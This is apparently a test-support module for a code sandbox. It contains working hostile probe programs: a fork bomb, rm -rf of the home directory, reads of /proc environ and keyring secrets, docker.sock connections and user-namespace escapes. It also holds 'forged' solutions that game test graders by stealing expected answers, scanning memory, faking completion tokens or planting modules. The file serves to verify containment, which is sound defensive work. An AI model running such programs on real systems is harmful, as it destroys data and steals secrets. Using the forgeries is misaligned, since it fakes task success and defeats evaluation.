"""Hostile programs that :mod:`ttclib.sandbox` must contain, and the check that it did.

Used by ``tests/test_sandbox.py`` and ``scripts/bench_sandbox.py`` (which puts ``tests/`` on
``sys.path`` to import it). Each program is written so that exit status 0 means its attack
worked (a fork bomb or endless loop never exits): contained means it scored as a failure *and*
left no trace — canary directories intact, nothing written outside the sandbox, the test's
secret not in its output, no connection to the test's TCP or Unix listener, the key in the
caller's session keyring intact, no process of the sandbox left, the caller alive.

>>> import sandbox_probes
>>> outcome = sandbox_probes.check_contained("infinite_loop")     # doctest: +SKIP
>>> outcome.contained, outcome.problems                             # doctest: +SKIP
(True, ())

``FORGERIES`` are solutions that try to pass tests they cannot pass honestly (steal the
expected value or fake the verdict); :func:`check_forgery` scores one with
:func:`ttclib.sandbox.passes_asserts` or :func:`ttclib.sandbox.passes_call`, and it must not pass.

Templates are filled by plain replacement of ``@NAME@`` markers: ``@CANARIES@`` and ``@ESCAPES@``
(lists of paths), ``@PORT@`` (a listener on 127.0.0.1), ``@SECRET_NAME@`` (an environment
variable the caller holds), ``@PARENT_PID@``, ``@CALLER_HOME@``, ``@KEY_NAME@`` (a key holding
the secret in the caller's session keyring), ``@UNIX_SOCKETS@`` (listening Unix sockets, anyone
may connect, in a directory the sandbox sees) and ``@HOARD_MB@`` (more memory than the
execution's memory and tmpfs limits allow together).
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

from ttclib import sandbox
from ttclib.sandbox import Execution, Limits, isolation

SECRET_NAME = "TTC_TEST_SECRET"  # set to a random value in the caller while a probe runs

# Short limits: every hostile program is killed within seconds.
PROBE_LIMITS = Limits(wall_s=3.0, cpu_s=2.0, memory_mb=512, processes=32, output_kb=64)

HOSTILE_PROGRAMS: dict[str, str] = {
    # 1. classic fork bomb; every process keeps forking
    "fork_bomb": """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    # 2. delete the home directory and the caller's canaries, in Python and with rm -rf (the
    #    caller's real home is never a target: the canaries stand in for it)
    "rm_home": """\
import os, shutil, subprocess
home = os.path.expanduser("~")
own_home = home not in ("/", "@CALLER_HOME@") and os.path.isabs(home)
targets = ([home] if own_home else []) + @CANARIES@
existed = [t for t in @CANARIES@ if os.path.exists(t)]
for target in targets:
    subprocess.run(["rm", "-rf", "--", target])
    shutil.rmtree(target, ignore_errors=True)
deleted = [t for t in existed if not os.path.exists(t)]
raise SystemExit(0 if deleted else 1)      # 0: some canary it could see is gone
""",
    # 3. reach the caller's listener and the internet (TCP and UDP)
    "network": """\
import socket
reached = []
for address in [("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        socket.create_connection(address, timeout=1).close()
        reached.append(address)
    except OSError as exc:
        print("blocked", address, exc)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"\\x00" * 12, ("1.1.1.1", 53))
    s.recvfrom(512)
    reached.append("udp 1.1.1.1:53")
except OSError as exc:
    print("blocked udp", exc)
raise SystemExit(0 if reached else 1)
""",
    # 4. burn CPU forever
    "infinite_loop": """\
while True:
    pass
""",
    # 5. allocate 50 GB at once, by growing a list, and with numpy
    "memory_50gb": """\
block = bytearray(50 * 2**30)
print(len(block))
""",
    "memory_growth": """\
chunks = []
while sum(map(len, chunks)) < 50 * 2**30:
    chunks.append(bytearray(2**27))
    chunks[-1][::4096] = b"x" * len(range(0, 2**27, 4096))
""",
    "memory_numpy": """\
import numpy as np
a = np.ones(50 * 2**30 // 8)
print(a.sum())
""",
    # 6. write outside the work directory
    "write_outside": """\
import os
written = []
for path in @ESCAPES@ + [os.path.join(d, "escaped.txt") for d in @CANARIES@]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("escaped")
        written.append(path)
    except OSError as exc:
        print("blocked", path, exc)
raise SystemExit(0 if len(written) == len(@ESCAPES@) + len(@CANARIES@) else 1)
""",
    # 7. read the caller's environment
    "read_secrets": """\
import os
name = "@SECRET_NAME@"
found = []
print(dict(os.environ))
for path in ["/proc/@PARENT_PID@/environ", "/proc/1/environ"] + [
        "/proc/%s/environ" % p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(path, "rb") as f:
            data = f.read()
        print(path, data)
        if name.encode() in data:
            found.append(path)
    except OSError as exc:
        print("blocked", path, exc)
if name in os.environ:
    found.append("os.environ")
raise SystemExit(0 if found else 1)
""",
    # 8. leave a daemon behind (setsid + double fork, and via setsid(1)) and exit 0 at once
    "daemon": """\
import os, subprocess, time
subprocess.Popen(["setsid", "sleep", "3600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
os.wait()
""",
    # 9. flood stdout
    "stdout_flood": """\
while True:
    print("x" * 10000)
""",
    # 10. read and revoke a key in the caller's session keyring; leave a note in the per-uid
    #     user keyring for the next execution on the same uid
    "keyring": """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
SESSION, USER = ctypes.c_long(-3), ctypes.c_long(-4)
REVOKE, SEARCH, READ = 3, 10, 11
achieved = []
key = libc.syscall(KEYCTL, SEARCH, SESSION, b"user", b"@KEY_NAME@", 0)
print("search", key, os.strerror(ctypes.get_errno()))
if key > 0:
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(KEYCTL, READ, key, buf, 4096)
    if n > 0:
        print("read", buf.raw[:n].decode(errors="replace"))
        achieved.append("read")
    if libc.syscall(KEYCTL, REVOKE, key) == 0:
        achieved.append("revoked")
if libc.syscall(KEYCTL, SEARCH, USER, b"user", b"ttc-probe-note", 0) > 0:
    achieved.append("found a note of an earlier execution")
if libc.syscall(ADD_KEY, b"user", b"ttc-probe-note", b"note", 4, USER) > 0:
    achieved.append("left a note")
print("achieved", achieved)
raise SystemExit(0 if achieved else 1)
""",
    # 11. connect to Unix sockets of the host (read-only mounts do not stop connect())
    "unix_socket": """\
import socket
reached = []
for path in @UNIX_SOCKETS@ + ["/var/run/docker.sock", "/run/docker.sock",
                             "/var/run/dbus/system_bus_socket", "/run/systemd/private"]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(1)
                s.connect(path)
                reached.append(path)
                break
        except OSError as exc:
            print("blocked", path, exc)
print("reached", reached)
raise SystemExit(0 if reached else 1)
""",
    # 12. a user namespace of its own (unshare, clone and clone3), in it a fresh tmpfs that no
    #     disk_mb bounds
    "user_namespace": """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x20000, 17
CLONE, CLONE3 = {"x86_64": (56, 435), "aarch64": (220, 435)}[os.uname().machine]
achieved = []

def in_child(make):
    pid = os.fork()
    if pid == 0:
        if make() == 0:
            os.mkdir("/tmp/big")
            if libc.mount(b"none", b"/tmp/big", b"tmpfs", 0, b"size=1g") == 0:
                os._exit(0)
            os._exit(2)
        os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])

def clone(flags):
    pid = libc.syscall(CLONE, ctypes.c_ulong(flags | SIGCHLD), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid > 0 and os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0

def clone3(flags):
    args = (ctypes.c_uint64 * 11)(flags, 0, 0, 0, SIGCHLD)
    pid = libc.syscall(CLONE3, args, ctypes.c_size_t(88))
    if pid == 0:
        os._exit(0)
    print("clone3", pid, os.strerror(ctypes.get_errno()))
    return pid > 0 and os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0

status = in_child(lambda: libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
print("unshare", status)
if status in (0, 2):
    achieved.append("unshare" + (" and a fresh tmpfs" if status == 0 else ""))
if clone(CLONE_NEWUSER):
    achieved.append("clone")
if clone3(CLONE_NEWUSER):
    achieved.append("clone3")
try:
    if subprocess.run(["unshare", "-U", "true"]).returncode == 0:
        achieved.append("unshare(1)")
except OSError as exc:
    print("blocked unshare(1)", exc)
print("achieved", achieved)
raise SystemExit(0 if achieved else 1)
""",
    # 13. hold memory that RLIMIT_AS does not count: memfds written to, never mapped
    "memfd_hoard": """\
import os
target, held, fds = @HOARD_MB@ << 20, 0, []
chunk = b"x" * (8 << 20)
try:
    while held < target:
        fd = os.memfd_create("hoard")
        fds.append(fd)
        for _ in range(2):                  # 16 MiB per memfd: within RLIMIT_FSIZE
            os.write(fd, chunk)
            held += len(chunk)
except OSError as exc:
    print("stopped", exc)
print("held MiB", held >> 20, flush=True)
raise SystemExit(0 if held >= target else 1)
""",
    # 14. leave the OOM killer's first place (oom_score_adj 1000) so that the caller goes first
    "oom_adjust": """\
import os
for path, value in (("/proc/self/oom_score_adj", "0"), ("/proc/self/oom_adj", "-17"),
                    ("/proc/self/oom_score_adj", "-1000")):
    try:
        with open(path, "w") as f:
            f.write(value)
    except OSError as exc:
        print("blocked", path, value, exc)
with open("/proc/self/oom_score_adj") as f:
    value = int(f.read())
print("oom_score_adj", value)
raise SystemExit(0 if value < 1000 else 1)
""",
}


@dataclass(frozen=True)
class Outcome:
    """How one hostile program fared."""

    name: str
    contained: bool
    problems: tuple[str, ...]  # why not contained (empty when contained)
    execution: Execution | None  # None when the sandbox itself raised
    wall_s: float  # seconds the check took, setup and cleanup included


class PreflightError(RuntimeError):
    """The sandbox does not limit processes or network here: hostile probes must not run."""


def preflight(limits: Limits = PROBE_LIMITS) -> Execution:
    """Check, with harmless bounded programs, that process and network limits are in force
    before any fork bomb runs. Raises :class:`PreflightError` otherwise."""
    program = f"""\
import os, resource, socket, time
print("nproc", resource.getrlimit(resource.RLIMIT_NPROC)[0])
print("uid", os.getuid())
forked = 0
for _ in range({limits.processes + 8}):       # bounded: at most this many children
    try:
        if os.fork() == 0:
            time.sleep(1)
            os._exit(0)
        forked += 1
    except OSError:
        break
print("forked", forked)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1)
    print("network yes")
except OSError:
    print("network no")
"""
    result = sandbox.run(program, limits=limits)
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines() if " " in line)
    problems = []
    if int(lines.get("forked", 10**6)) >= limits.processes:
        problems.append(f"forked {lines.get('forked')} children with processes={limits.processes}")
    if lines.get("network") != "no":
        problems.append("network reachable")
    if lines.get("uid") == "0":
        problems.append("runs as root")
    if result.timed_out or problems:
        raise PreflightError(f"{'; '.join(problems) or 'timed out'}: {result}")
    return result


def _sandbox_uid(execution: Execution | None) -> int | None:
    for tag in execution.isolation if execution else ():
        if tag.startswith("uid:"):
            return int(tag[4:])
    return None


def _make_canary(parent: Path, writable: bool) -> tuple[Path, dict[str, str]]:
    canary = Path(tempfile.mkdtemp(prefix="ttc-canary-", dir=parent))
    files = {"canary.txt": secrets.token_hex(8), "sub/keep.txt": secrets.token_hex(8)}
    for rel, text in files.items():
        (canary / rel).parent.mkdir(exist_ok=True)
        (canary / rel).write_text(text)
    if writable:  # only the read-only mounts stop the sandbox from writing here
        for path in [canary, canary / "sub", *(canary / rel for rel in files)]:
            path.chmod(0o777 if path.is_dir() else 0o666)
    else:
        canary.chmod(0o755)
    return canary, files


def _canary_problems(canary: Path, files: dict[str, str]) -> list[str]:
    problems = []
    for rel, text in files.items():
        try:
            if (canary / rel).read_text() != text:
                problems.append(f"canary {canary / rel} changed")
        except OSError:
            problems.append(f"canary {canary / rel} gone")
    if canary.exists():
        present = {str(p.relative_to(canary)) for p in canary.rglob("*") if p.is_file()}
        if present - set(files):
            problems.append(f"new files in canary {canary}: {sorted(present - set(files))}")
    return problems


def visible_canary_parent() -> Path | None:
    """Where to put a world-writable canary that the sandbox can see (so that only read-only
    mounts protect it): ``$TTC_PROBE_CANARY_DIR``, else, as root, the sandbox state directory."""
    if os.environ.get("TTC_PROBE_CANARY_DIR"):
        return Path(os.environ["TTC_PROBE_CANARY_DIR"])
    if os.geteuid() == 0:
        parent = isolation.state_dir() / "canaries"
        parent.mkdir(parents=True, exist_ok=True)
        parent.chmod(0o711)
        return parent
    return None


def check_contained(name: str, limits: Limits = PROBE_LIMITS, canary_dir: str | os.PathLike | None = None) -> Outcome:
    """Run hostile program ``name`` and check everything it must not have achieved.

    Canaries: a directory owned by the caller in ``canary_dir`` (default: a new temporary
    directory) and a world-writable one that the sandbox can see (:func:`visible_canary_parent`).
    Call :func:`preflight` once before.
    """
    start = time.monotonic()
    tag = secrets.token_hex(6)
    secret_name, secret = SECRET_NAME, secrets.token_hex(16)
    saved_secret = os.environ.get(secret_name)
    cleanup: list[Path] = []
    canaries: list[tuple[Path, dict[str, str]]] = []
    own_dir = canary_dir is None
    if own_dir:
        canary_dir = tempfile.mkdtemp(prefix="ttc-probe-")
        cleanup.append(Path(canary_dir))
    canaries.append(_make_canary(Path(canary_dir), writable=False))
    visible = visible_canary_parent()
    if visible is not None:
        canaries.append(_make_canary(visible, writable=True))
        cleanup.append(canaries[-1][0])
    home = Path(os.path.expanduser("~"))
    escapes = [
        Path(tempfile.gettempdir()) / f"ttc-escape-{tag}",
        home / f"ttc-escape-{tag}",
        Path(canary_dir) / f"ttc-escape-{tag}",
    ]
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    unix_dir = Path(tempfile.mkdtemp(prefix="ttc-socket-", dir=visible or canary_dir))
    cleanup.append(unix_dir)
    unix_listener = _unix_listener(unix_dir / "probe.sock")
    key_name = f"ttc-probe-{tag}"
    key = _Keyring.plant(key_name, secret)
    source = (
        HOSTILE_PROGRAMS[name]
        .replace("@KEY_NAME@", key_name)
        .replace("@UNIX_SOCKETS@", repr([str(unix_dir / "probe.sock")]))
        .replace("@HOARD_MB@", str(limits.memory_mb + 3 * limits.disk_mb + 64))
        .replace("@CANARIES@", repr([str(c) for c, _ in canaries]))
        .replace("@ESCAPES@", repr([str(e) for e in escapes]))
        .replace("@PORT@", str(listener.getsockname()[1]))
        .replace("@SECRET_NAME@", secret_name)
        .replace("@PARENT_PID@", str(os.getpid()))
        .replace("@CALLER_HOME@", str(home))
    )
    problems: list[str] = []
    execution = None
    os.environ[secret_name] = secret
    try:
        try:
            execution = sandbox.run(source, limits=limits)
        except sandbox.SandboxError as exc:
            problems.append(f"sandbox error: {exc}")
        finally:
            if saved_secret is None:
                os.environ.pop(secret_name, None)
            else:
                os.environ[secret_name] = saved_secret
        if execution is not None:
            if execution.ok:
                problems.append("scored as success")
            if execution.wall_s > limits.wall_s + 2:
                problems.append(f"took {execution.wall_s:.1f} s (limit {limits.wall_s} s)")
            if secret in execution.stdout or secret in execution.stderr:
                problems.append("secret leaked")
            if len(execution.stdout) > limits.output_kb * 1024 + 200:
                problems.append(f"stdout not capped ({len(execution.stdout)} chars)")
        for canary, files in canaries:
            problems += _canary_problems(canary, files)
        problems += [f"wrote {e}" for e in escapes if os.path.lexists(e)]
        for server in (listener, unix_listener):
            try:
                connection, peer = server.accept()
                connection.close()
                problems.append(f"listener got a connection from {peer or 'a Unix socket'}")
            except BlockingIOError:
                pass
        if key is not None and not _Keyring.intact(key, secret):
            problems.append("the caller's session key was revoked or changed")
        uid = _sandbox_uid(execution)
        if uid is not None and isolation.uid_processes(uid):
            problems.append(f"processes of uid {uid} left: {isolation.uid_processes(uid)}")
        if not _can_fork():
            problems.append("the caller can no longer start processes")
    finally:
        listener.close()
        unix_listener.close()
        _Keyring.remove(key)
        for path in escapes:  # only ever present when containment failed
            if os.path.lexists(path):
                shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
        for path in cleanup:
            shutil.rmtree(path, ignore_errors=True)
        if not own_dir:
            for canary, _ in canaries[:1]:
                shutil.rmtree(canary, ignore_errors=True)
    return Outcome(
        name=name,
        contained=not problems,
        problems=tuple(problems),
        execution=execution,
        wall_s=round(time.monotonic() - start, 3),
    )


def _unix_listener(path: Path) -> socket.socket:
    """A Unix stream socket that anyone may connect to (write permission on the socket file),
    in a directory the sandbox can see: only the sandbox can keep a program from it."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    server.setblocking(False)
    path.parent.chmod(0o755)
    path.chmod(0o777)
    return server


class _Keyring:
    """A key with the test's secret in the caller's session keyring (``add_key``/``keyctl``
    system calls through ctypes; x86-64 and aarch64)."""

    _NUMBERS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
    SESSION, READ, INVALIDATE = -3, 11, 21

    @classmethod
    def _libc(cls):
        import ctypes

        numbers = cls._NUMBERS.get(os.uname().machine)
        return (ctypes, ctypes.CDLL(None, use_errno=True), numbers) if numbers else None

    @classmethod
    def plant(cls, name: str, secret: str) -> int | None:
        """The new key's id, or None where keyrings are unavailable."""
        found = cls._libc()
        if found is None:
            return None
        ctypes, libc, (add_key, _) = found
        key = libc.syscall(
            add_key, b"user", name.encode(), secret.encode(), ctypes.c_size_t(len(secret)), ctypes.c_long(cls.SESSION)
        )
        return key if key > 0 else None

    @classmethod
    def intact(cls, key: int, secret: str) -> bool:
        ctypes, libc, (_, keyctl) = cls._libc()
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(keyctl, cls.READ, ctypes.c_long(key), buf, ctypes.c_size_t(4096))
        return n == len(secret) and buf.raw[:n] == secret.encode()

    @classmethod
    def remove(cls, key: int | None) -> None:
        if key is not None:
            ctypes, libc, (_, keyctl) = cls._libc()
            libc.syscall(keyctl, cls.INVALIDATE, ctypes.c_long(key))


def _can_fork() -> bool:
    try:
        return subprocess.run(["true"], timeout=10).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def check_all(limits: Limits = PROBE_LIMITS, canary_dir=None) -> list[Outcome]:
    """:func:`preflight`, then every hostile program in turn."""
    preflight(limits)
    return [check_contained(name, limits, canary_dir) for name in HOSTILE_PROGRAMS]


# ---------------------------------------------------------------------------------------------
# Forged verdicts: solutions that try to pass tests they cannot pass honestly. The tests compare
# ``answer()`` with a random secret, so only stealing it or faking the verdict could pass; every
# one of these must score as NOT passed by :func:`ttclib.sandbox.passes_asserts` and
# :func:`ttclib.sandbox.passes_call`. Those in ``CLASSIC_FORGERIES`` pass a single-process
# harness (solution + tests + a completion token in one program), the design they were found on.

FORGERY_LIMITS = Limits(wall_s=5.0, cpu_s=3.0, memory_mb=512, processes=16, output_kb=64)
SECRET_PREFIX = "ttcsecret"

FORGERY_TESTS = """\
def check(candidate):
    import copy, random, string
    assert candidate() == "@SECRET@"

check(answer)
"""

_STEAL = r'''
import os, re, sys
SECRET = re.compile(rb"ttcsecret[0-9a-f]{32}")
TOKEN = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")


def source_text():
    """Every file in reach that could hold the tests or the harness's token."""
    paths = [sys.argv[0]]
    for d in (".", "/tmp", "/tmp/work", os.path.expanduser("~")):
        try:
            paths += [os.path.join(d, n) for n in os.listdir(d)]
        except OSError:
            pass
    data = b""
    for path in paths:
        try:
            with open(path, "rb") as f:
                data += f.read(1 << 20)
        except OSError:
            pass
    return data


def fake_verdict(data):
    """Print every token-like string of ``data`` the way a harness signals completion; exit 0."""
    for token in set(TOKEN.findall(data)):
        os.write(1, b"\n" + token + b"\n")
    os._exit(0)


def first_secret(data):
    found = SECRET.findall(data)
    return found[0].decode() if found else None
'''

FORGERIES: dict[str, str] = {
    # the tests from the program's own source (and any file in reach)
    "source_secret": _STEAL
    + """
DATA = source_text()

def answer():
    return first_secret(DATA)
""",
    # the completion token from the source: print it and exit 0 without running the tests
    "source_token": _STEAL
    + """
fake_verdict(source_text())

def answer():
    return None
""",
    # the caller's frames: locals, globals, constants, source lines
    "caller_frames": _STEAL
    + """
import inspect

def answer():
    seen, frame = [], sys._getframe(1)
    while frame is not None:
        seen += list(frame.f_locals.values()) + list(frame.f_globals.values())
        seen += list(frame.f_code.co_consts)
        frame = frame.f_back
    seen += ["".join(info.code_context or []) for info in inspect.stack()]
    return first_secret(" ".join(repr(v) for v in seen).encode(errors="replace"))
""",
    # every object the garbage collector tracks: the tests' function, the harness's cases
    "gc_objects": _STEAL
    + """
import gc, types

def answer():
    texts = []
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType):
            texts += [c for c in obj.__code__.co_consts if isinstance(c, str)]
        elif isinstance(obj, dict):
            texts += [v for v in obj.values() if isinstance(v, str)]
        elif isinstance(obj, (list, tuple)):
            texts += [repr(v) for v in obj if isinstance(v, (str, list))]
    return first_secret("\\n".join(texts).encode(errors="replace"))
""",
    # /proc/*/cmdline, environ and open descriptors (stdin payload, pipes), argv, environment,
    # and the files the command lines name
    "proc_files": _STEAL
    + """
def gather():
    pids = ["self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    paths = []
    for pid in pids:
        paths += ["/proc/%s/cmdline" % pid, "/proc/%s/environ" % pid]
        try:
            paths += ["/proc/%s/fd/%s" % (pid, fd) for fd in os.listdir("/proc/%s/fd" % pid)]
        except OSError:
            pass
    data = (" ".join(sys.argv) + repr(dict(os.environ))).encode()
    for path in paths:
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                data += os.read(fd, 1 << 20)
            finally:
                os.close(fd)
        except OSError:
            pass
    for name in set(re.findall(rb"[\\w./-]+\\.py", data)):
        try:
            with open(name, "rb") as f:
                data += f.read()
        except OSError:
            pass
    return data

DATA = gather()

def answer():
    return first_secret(DATA + gather())
""",
    # memory of every process in reach: /proc/PID/mem, process_vm_readv, ptrace
    "memory_scan": _STEAL
    + """
import ctypes

class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

LIBC = ctypes.CDLL(None, use_errno=True)

def regions(pid):
    try:
        with open("/proc/%s/maps" % pid) as f:
            lines = f.read().splitlines()
    except OSError:
        return []
    out = []
    for line in lines:
        span, perms = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        if "r" in perms and end - start <= 1 << 26:
            out.append((start, end))
    return out

def scan(pid):
    data = []
    try:
        with open("/proc/%s/mem" % pid, "rb", 0) as mem:
            for start, end in regions(pid):
                try:
                    mem.seek(start)
                    data.append(mem.read(end - start))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
    if pid != "self":
        for start, end in regions(pid):
            buf = ctypes.create_string_buffer(end - start)
            local, remote = IOVec(ctypes.addressof(buf), end - start), IOVec(start, end - start)
            if LIBC.process_vm_readv(int(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                data.append(buf.raw)
        LIBC.ptrace(16, int(pid), 0, 0)                      # PTRACE_ATTACH
    return b"".join(data)

def answer():
    pids = [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids + ["self"]:
        if pid != str(os.getpid()):
            found = first_secret(scan(pid))
            if found:
                return found
    return None
""",
    # print, sys.stdout, os.write, exits and the exception hook replaced: a failure looks like
    # a completed run
    "patched_output": _STEAL
    + """
import builtins
DATA = source_text()
TOKENS = b"".join(b"\\n" + t + b"\\n" for t in set(TOKEN.findall(DATA)))
_write, _exit = os.write, os._exit

class Forged:
    def write(self, text):
        _write(1, text.encode() + TOKENS)
        return len(text)
    def flush(self):
        pass

os.write = lambda fd, data: _write(fd, bytes(data) + TOKENS)
os._exit = lambda code: _exit(0)
sys.exit = lambda *args: _exit(0)
builtins.print = lambda *args, **kw: _write(1, TOKENS)
sys.stdout = Forged()
sys.excepthook = lambda *args: fake_verdict(DATA)

def answer():
    return None
""",
    # the solution exits 0 in the middle of the tests
    "exit_zero": """
def answer():
    raise SystemExit(0)
""",
    "os_exit_zero": """
import os

def answer():
    os._exit(0)
""",
    # an atexit handler fakes the verdict after the failing test
    "atexit": _STEAL
    + """
import atexit
atexit.register(fake_verdict, source_text())

def answer():
    return None
""",
    # a thread outlives the failing test, sprays forged replies, then fakes the verdict
    "thread": _STEAL
    + """
import json, threading, time
DATA = source_text()

def forge():
    time.sleep(0.3)
    frames = b""
    for message in ({"ready": True}, {"value": True}, {"value": None}):
        body = json.dumps(message).encode()
        frames += len(body).to_bytes(8, "big") + body
    for fd in range(1, 32):
        try:
            os.write(fd, frames)
        except OSError:
            pass
    fake_verdict(DATA)

threading.Thread(target=forge).start()

def answer():
    return None
""",
    # the classic: an object equal to everything
    "always_equal": """
class Anything:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0

def answer():
    return Anything()
""",
    "equal_str_subclass": """
class Text(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = str.__hash__

def answer():
    return Text("wrong")
""",
    # a silent exception hook, then a finaliser that fakes the verdict at shutdown
    "del_excepthook": _STEAL
    + """
FORGED = b"".join(b"\\n" + t + b"\\n" for t in set(TOKEN.findall(source_text())))

class Finale:
    def __del__(self, write=os.write, exit=os._exit, forged=FORGED):   # globals are gone by then
        write(1, forged)
        exit(0)

KEEP = Finale()
sys.excepthook = lambda *args: None

def answer():
    return None
""",
    # modules planted where the tests' imports might look (cwd, /tmp, home, sys.path)
    "plant_modules": """
import os, sys
PLANT = "import os\\nos.write(1, b'planted\\\\n')\\nos._exit(0)\\n"
NAMES = ("copy", "random", "string", "math", "json", "re", "traceback", "linecache", "select",
         "ctypes", "enum", "sitecustomize", "usercustomize")
for d in [os.getcwd(), "/", "/tmp", "/tmp/work", os.path.expanduser("~")] + sys.path + [
        "__editable__.ttc_energy-0.1.0.finder.__path_hook__"]:
    try:
        os.makedirs(d, exist_ok=True)
        for name in NAMES:
            with open(os.path.join(d, name + ".py"), "w") as f:
                f.write(PLANT)
    except OSError:
        pass

def answer():
    return None
""",
    # signals to every process in reach (the tests' process included)
    "signal_harness": """
import os, signal, time

def answer():
    me = os.getpid()
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == me:
            continue
        for sig in (signal.SIGSTOP, signal.SIGCONT, signal.SIGINT, signal.SIGCHLD,
                    signal.SIGWINCH, signal.SIGURG):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    time.sleep(0.1)
    return "wrong"
""",
}

# Those that pass a single-process harness (the design the attack report was about).
CLASSIC_FORGERIES = (
    "source_secret",
    "source_token",
    "caller_frames",
    "gc_objects",
    "proc_files",
    "memory_scan",
    "patched_output",
    "atexit",
    "thread",
    "always_equal",
    "equal_str_subclass",
    "del_excepthook",
)


@dataclass(frozen=True)
class Verdict:
    """How one forged solution fared in one harness."""

    name: str
    harness: str  # "asserts" or "call"
    passed: bool  # the harness's verdict: must be False
    execution: Execution | None  # None for passes_call (it returns a bool)


def forgery_secret() -> str:
    return SECRET_PREFIX + secrets.token_hex(16)


def check_forgery(name: str, harness: str = "asserts", limits: Limits = FORGERY_LIMITS) -> Verdict:
    """Score forged solution ``name`` against a fresh secret with :func:`sandbox.passes_asserts`
    (a ``check(candidate)`` test) or :func:`sandbox.passes_call` (a LeetCode-style case)."""
    secret, solution = forgery_secret(), FORGERIES[name]
    if harness == "asserts":
        execution = sandbox.passes_asserts(
            solution, FORGERY_TESTS.replace("@SECRET@", secret), candidates=["answer"], limits=limits
        )
        return Verdict(name, harness, execution.ok, execution)
    if harness == "call":
        return Verdict(name, harness, sandbox.passes_call(solution, "answer", [([], secret)], limits), None)
    raise ValueError(f"unknown harness {harness!r}")
